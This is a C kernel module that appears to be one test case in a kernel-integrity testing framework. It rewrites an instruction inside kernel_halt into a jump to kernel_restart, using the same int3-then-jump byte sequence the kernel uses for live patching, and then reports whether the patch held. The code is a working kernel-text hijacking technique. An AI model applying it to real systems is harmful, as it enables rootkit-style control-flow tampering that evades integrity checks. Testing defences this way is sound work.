/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * Makes of an instruction in the kernel's image a jump to a function of the kernel, in the way Linux patches and by its own
 * instructions: no byte of it is one that Linux would not write. But it has no reason to write it there.
 */
#include "poke.h"

#include <linux/string.h>

#define INT3 0xcc
#define JUMP 0xe9
#define JUMP_BYTES 5u
/* Behind what the kernel patches at the beginning of the function. */
#define INSIDE 16u

static u8 *site;
static s32 distance;

static int attempt(void)
{
	const u8 int3 = INT3, jump = JUMP;
	void *(*copy)(void *, const void *, size_t) = (void *)attack_symbol("memcpy");
	/* This machine is not halted, so that no CPU comes by. */
	const unsigned long function = attack_symbol("kernel_halt");
	const unsigned long target = attack_symbol("kernel_restart");
	struct poke poke;
	int result = poke_find(&poke);

	if (result || !copy || !function || !target)
		return result ? result : -ENOENT;
	site = (u8 *)function + INSIDE;
	distance = (s32)(target - (unsigned long)site - JUMP_BYTES);
	poke_store(&poke, site, &int3, sizeof(int3), copy);
	if (READ_ONCE(*site) != INT3)
		return 0;
	poke_store(&poke, site + 1, &distance, sizeof(distance), copy);
	poke_store(&poke, site, &jump, sizeof(jump), copy);
	return 0;
}

static bool effect(void)
{
	if (!site)
		return false;
	attack_detail("the first byte there is 0x%02x", READ_ONCE(*site));
	return *site == JUMP && !memcmp(site + 1, &distance, sizeof(distance));
}

static const struct attack text_profile = {"text_profile", "code-profile", NULL,
					   attempt,	   effect,	   NULL};
ATTACK_MODULE(text_profile);
